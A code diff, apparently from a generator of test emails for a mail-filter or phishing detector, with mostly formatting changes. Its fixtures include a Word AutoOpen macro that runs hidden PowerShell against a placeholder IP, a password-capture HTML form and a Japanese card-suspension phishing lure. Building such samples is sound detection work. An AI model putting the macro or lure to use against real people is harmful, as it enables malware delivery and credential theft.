@@ -45,7 +45,7 @@ def attachment(kind, name, build, text):
         '<input type="password" name="pass"><input type="submit" value="OK"></form>'
     )
     plain_pdf = build.pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
-    macro = "Sub AutoOpen()\r\nShell \"cmd /c powershell -w hidden http://192.0.2.66/a\"\r\nEnd Sub\r\n"
+    macro = 'Sub AutoOpen()\r\nShell "cmd /c powershell -w hidden http://192.0.2.66/a"\r\nEnd Sub\r\n'
     event = (
         "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//example//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@kaigi.example\r\n"
         f"DTSTART:20261120T010000Z\r\nDTEND:20261120T020000Z\r\nSUMMARY:{name}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
@@ -106,7 +106,9 @@ def marked_up(text, options):
         blocks.append(f"<p>{''.join(shown)}</p>")
     if "picture" in options:
         target = options["picture"]
-        blocks.insert(0, f'<a href="{target}"><img src="https://img.tanin-site.example/1.png" width="600" height="800"></a>')
+        blocks.insert(
+            0, f'<a href="{target}"><img src="https://img.tanin-site.example/1.png" width="600" height="800"></a>'
+        )
     if "hidden" in options:
         blocks.append(f'<div style="display:none">{html.escape(options["hidden"])}</div>')
     return "<html><body>\n" + "\n".join(blocks) + "\n</body></html>\n"
@@ -161,7 +163,13 @@ def build_mail(row, number, build):
     text = text.replace("|", "\n")
     plain = leaf("plain", _LINK.sub(r"\1 \2", text) + "\n", charset, transfer)
     rich = leaf("html", marked_up(text, options), charset, transfer)
-    content = multipart("alternative", [plain, rich], f"=_a{number}") if "alt" in options else rich if "html" in options else plain
+    content = (
+        multipart("alternative", [plain, rich], f"=_a{number}")
+        if "alt" in options
+        else rich
+        if "html" in options
+        else plain
+    )
     parts = []
     for key, value in options.items():
         if key in _KINDS:
@@ -180,8 +188,12 @@ def _file_part(kind, name, build, text):
         inner = (
             "From: =?utf-8?b?5p625qe544Kr44O844OJ?= <info@kakuu-card-alert.example>\nTo: a@hakusandai-hp.example\n"
             f"Subject: {word('【重要】カード停止のお知らせ')}\nMIME-Version: 1.0\n"
-        ).encode() + leaf("plain", "24時間以内に確認されない場合、カードを停止します。\nhttp://192.0.2.99/card\n", "utf-8", "base64")
-        return f'Content-Type: message/rfc822; name="{word(name)}"\nContent-Disposition: attachment\n\n'.encode() + inner
+        ).encode() + leaf(
+            "plain", "24時間以内に確認されない場合、カードを停止します。\nhttp://192.0.2.99/card\n", "utf-8", "base64"
+        )
+        return (
+            f'Content-Type: message/rfc822; name="{word(name)}"\nContent-Disposition: attachment\n\n'.encode() + inner
+        )
     shown = "".join(f"%{byte:02X}" for byte in name.encode())
     head = f"Content-Type: {content_type}\nContent-Disposition: attachment; filename*=UTF-8''{shown}\n"
     return (head + "Content-Transfer-Encoding: base64\n\n").encode() + base64.encodebytes(content())
